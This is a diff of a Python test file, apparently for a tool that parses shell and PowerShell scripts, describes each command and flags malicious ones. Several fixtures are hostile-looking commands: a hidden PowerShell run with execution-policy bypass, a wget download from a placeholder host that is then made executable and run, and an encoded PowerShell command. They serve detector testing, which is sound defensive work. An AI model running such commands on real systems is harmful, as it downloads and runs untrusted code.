@@ -151,7 +151,7 @@ def test_the_script_is_found_in_the_prompt(prompt: str, script: str, line: int):
 
 
 def test_each_command_is_described():
-    [part] = parts_of("powershell -nop -w hidden -ep bypass -File %TEMP%\\a.ps1", Language.BATCH)
+    [part] = parts_of("powershell -nop -w hidden -ep bypass -File %TEMP%\\a.ps1", Language.BATCH).commands
     described = words_for(part)
     assert "without the user's profile" in described
     assert "its window hidden" in described
@@ -159,7 +159,7 @@ def test_each_command_is_described():
 
 
 def test_commands_come_in_order_with_their_lines():
-    parts = list(parts_of("cd /tmp\nwget http://a.test/x && chmod +x x\n./x &", Language.SHELL))
+    parts = list(parts_of("cd /tmp\nwget http://a.test/x && chmod +x x\n./x &", Language.SHELL).commands)
     assert [(part.name, part.line) for part in parts] == [("cd", 1), ("wget", 2), ("chmod", 2), ("./x", 3)]
 
 
@@ -276,3 +276,11 @@ def test_a_comment_in_another_script_does_not_hide_an_encoded_command(comment: s
     encoded = base64.b64encode(command.encode("utf-16-le")).decode()
     found = inspect(f"powershell -EncodedCommand {encoded}\n", source="run.ps1")
     assert any("malicious" in item.title for item in found if isinstance(item, Finding))
+
+
+def test_a_text_that_takes_too_long_to_parse_is_split_by_lines_and_says_so():
+    events = list(inspect("#!/bin/sh\n" + "<" * 200_000 + "\nwget http://a.test/x\n", source="a.sh"))
+    assert "stage 1 took too long to parse: its commands were split line by line" in [
+        event.text for event in events if isinstance(event, Gap)
+    ]
+    assert "wget" in [event.title for event in events if isinstance(event, Finding)]
